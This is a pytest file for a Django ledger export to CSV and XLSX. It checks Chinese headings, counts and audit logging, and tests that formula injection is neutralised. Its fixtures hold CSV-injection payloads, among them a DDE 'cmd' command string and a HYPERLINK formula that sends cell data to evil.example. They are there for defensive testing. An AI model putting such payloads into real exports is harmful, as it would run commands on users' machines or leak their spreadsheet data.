"""The ledger as CSV and XLSX: the figures are there, headings are Chinese by default, nothing in
a cell runs as a formula, and every export leaves ``ledger.exported`` in the log."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from typing import Any
from zoneinfo import ZoneInfo

import pytest
import time_machine
from audit_support import market_make, rows, user_make
from django.utils import translation
from openpyxl import load_workbook

from accounts.models import User
from audit.exports import ledger_csv, ledger_xlsx
from audit.ledger import Ledger, ledger_day, ledger_month, ledger_sign_off
from audit.services import event_record
from audit.spreadsheets import FORMULA_TRIGGERS, cell_text
from markets.models import Market, Role

pytestmark = pytest.mark.django_db

SHANGHAI = ZoneInfo("Asia/Shanghai")
DAY = date(2026, 3, 2)
EVIL_NAME = "=cmd|' /C calc'!A0"
EVIL_KIND = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def at(hour: int, minute: int) -> datetime:
    return datetime(DAY.year, DAY.month, DAY.day, hour, minute, tzinfo=SHANGHAI)


def record(action: str, *, actor: User, market: Market, hour: int, **values: Any) -> None:
    with time_machine.travel(at(hour, 0), tick=False):
        event_record(action=action, actor=actor, market=market, new_values=values)


@pytest.fixture
def market() -> Market:
    return market_make("450100")


@pytest.fixture
def alice(market: Market) -> User:
    return user_make("alice", role=Role.OFFICER, market=market)


@pytest.fixture
def mallory(market: Market) -> User:
    user = user_make("mallory", role=Role.OFFICER, market=market)
    user.full_name = EVIL_NAME
    user.save(update_fields=["full_name"])
    return user


@pytest.fixture
def lead(market: Market) -> User:
    return user_make("lead", role=Role.TEAM_LEAD, market=market)


@pytest.fixture
def ledger(market: Market, alice: User, mallory: User, lead: User) -> Ledger:
    record("case.opened", actor=alice, market=market, hour=9, kind="postings", channel="counter")
    record("case.opened", actor=alice, market=market, hour=10, kind="postings", channel="phone")
    record(
        "case.opened", actor=mallory, market=market, hour=10, kind=EVIL_KIND, channel="\x01@SUM(1)"
    )
    record("case.closed", actor=mallory, market=market, hour=11, kind="-2+3", channel="counter")
    record("case.materials_requested", actor=alice, market=market, hour=11, item_count=2)
    record("notice.breach_recorded", actor=lead, market=market, hour=12, officer_id=alice.pk)
    record("posting.published", actor=alice, market=market, hour=13)
    record("guidance.referral_outcome", actor=alice, market=market, hour=14, outcome="hired")
    with time_machine.travel(at(18, 0), tick=False):
        ledger_sign_off(actor=lead, market=market, day=DAY, note="+ok")
    return ledger_day(market=market, day=DAY)


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def _row_starting(table: list[list[str]], first: str, second: str = "") -> list[str]:
    return next(r for r in table if r[:2] == [first, second] or (not second and r[:1] == [first]))


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+86 771", "'+86 771"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("南宁市零工市场", "南宁市零工市场"),
        ("a=b", "a=b"),
        ("\x01=1+1", "'=1+1"),
        ("\x00\x1f-1", "'-1"),
        ("", ""),
    ],
)
def test_cell_text_neutralises_formula_triggers(text: str, expected: str) -> None:
    assert cell_text(text) == expected


def test_csv_has_a_byte_order_mark_chinese_headings_and_the_figures(
    ledger: Ledger, lead: User
) -> None:
    data = ledger_csv(ledger, actor=lead)

    assert data.startswith(b"\xef\xbb\xbf")
    table = _csv_rows(data)
    assert table[0] == ["市场合计"]
    assert table[1] == ["市场", "南宁市零工市场"]
    assert table[2] == ["期间", "2026-03-02"]
    assert ["签字确认", "lead 同志 (lead)"] in table
    assert ["项目", "细分", "类别或渠道", "数量"] in table
    assert ["新受理案件", "", "", "3"] in table
    assert ["新受理案件", "类别", "postings", "2"] in table
    assert ["新受理案件", "渠道", "phone", "1"] in table
    assert ["新受理案件", "渠道", "counter", "1"] in table
    assert ["结案", "", "", "1"] in table
    assert ["发出一次性告知", "", "", "1"] in table
    assert ["违反一次性告知", "", "", "1"] in table
    assert ["工作人员"] in table
    header = _row_starting(table, "用户名")
    assert header[:4] == ["用户名", "姓名", "新受理案件", "认领案件"]
    alice_row = dict(zip(header, _row_starting(table, "alice"), strict=True))
    assert alice_row["新受理案件"] == "2"
    assert alice_row["发出一次性告知"] == "1"
    assert alice_row["违反一次性告知"] == "1"
    # The main business (art. 3) beside the case work.
    assert ["发布招聘信息", "", "", "1"] in table
    assert ["推荐成功录用", "", "", "1"] in table
    assert ["受理投诉", "", "", "0"] in table
    assert (alice_row["发布招聘信息"], alice_row["推荐成功录用"]) == ("1", "1")


def test_csv_neutralises_a_malicious_officer_name_and_kind(ledger: Ledger) -> None:
    table = _csv_rows(ledger_csv(ledger))

    assert _row_starting(table, "mallory")[1] == "'" + EVIL_NAME
    assert ["新受理案件", "类别", "'" + EVIL_KIND, "1"] in table
    assert ["新受理案件", "渠道", "'@SUM(1)", "1"] in table
    assert ["结案", "类别", "'-2+3", "1"] in table
    every_cell = [cell for r in table for cell in r]
    assert not any(cell.startswith(FORMULA_TRIGGERS) for cell in every_cell)


def test_xlsx_has_a_sheet_for_the_totals_and_one_for_the_officers(
    ledger: Ledger, lead: User
) -> None:
    workbook = load_workbook(io.BytesIO(ledger_xlsx(ledger, actor=lead)))

    assert workbook.sheetnames == ["市场合计", "工作人员"]
    totals = [list(r) for r in workbook["市场合计"].iter_rows(values_only=True)]
    assert ["市场", "南宁市零工市场", None, None] in totals
    assert ["新受理案件", None, None, 3] in totals
    assert ["新受理案件", "类别", "postings", 2] in totals
    assert ["结案", "类别", "'-2+3", 1] in totals
    assert ["签字确认", "lead 同志 (lead)", None, None] in totals
    officers = [list(r) for r in workbook["工作人员"].iter_rows(values_only=True)]
    header = officers[0]
    assert header[:3] == ["用户名", "姓名", "新受理案件"]
    by_name = {r[0]: dict(zip(header, r, strict=True)) for r in officers[1:]}
    # The lead only approved a breach, which is alice's: the lead has no line.
    assert set(by_name) == {"alice", "mallory"}
    assert by_name["alice"]["新受理案件"] == 2
    assert by_name["alice"]["违反一次性告知"] == 1
    assert by_name["mallory"]["结案"] == 1
    assert workbook["工作人员"]["A1"].font.bold


def test_xlsx_neutralises_a_malicious_officer_name(ledger: Ledger) -> None:
    workbook = load_workbook(io.BytesIO(ledger_xlsx(ledger)))

    sheet = workbook["工作人员"]
    mallory = next(r for r in sheet.iter_rows() if r[0].value == "mallory")
    assert mallory[1].value == "'" + EVIL_NAME
    assert mallory[1].data_type == "s"
    totals = [[c.value for c in r] for r in workbook["市场合计"].iter_rows()]
    assert ["新受理案件", "类别", "'" + EVIL_KIND, 1] in totals
    assert ["新受理案件", "渠道", "'@SUM(1)", 1] in totals
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_TRIGGERS)


def test_headings_follow_the_active_language(market: Market, alice: User) -> None:
    record("case.opened", actor=alice, market=market, hour=9, kind="postings", channel="counter")
    alice.full_name = "@evil"
    alice.save(update_fields=["full_name"])
    with translation.override("en"):
        table = _csv_rows(ledger_csv(ledger_day(market=market, day=DAY)))

    assert table[0] == ["Market totals"]
    assert ["Figure", "Broken down by", "Kind or channel", "Count"] in table
    assert ["Cases opened", "Kind", "postings", "1"] in table
    assert _row_starting(table, "alice")[1] == "'@evil"


def test_exports_record_ledger_exported_with_format_and_period(market: Market, lead: User) -> None:
    day = ledger_day(market=market, day=DAY)
    month = ledger_month(market=market, year=2026, month=3)

    ledger_csv(day, actor=lead, ip_address="10.0.0.8")
    ledger_xlsx(month, actor=lead)

    first, second = rows("ledger.exported")
    assert (first.actor, first.market, first.ip_address) == (lead, market, "10.0.0.8")
    assert first.new_values == {"format": "csv", "period": "2026-03-02"}
    assert (second.actor, second.market) == (lead, market)
    assert second.new_values == {"format": "xlsx", "period": "2026-03"}


def test_month_export_counts_the_days_signed_off(ledger: Ledger, market: Market) -> None:
    month = ledger_month(market=market, year=2026, month=3)

    table = _csv_rows(ledger_csv(month))

    assert ["已签字确认天数", "1"] in table
    assert ["新受理案件", "", "", "3"] in table
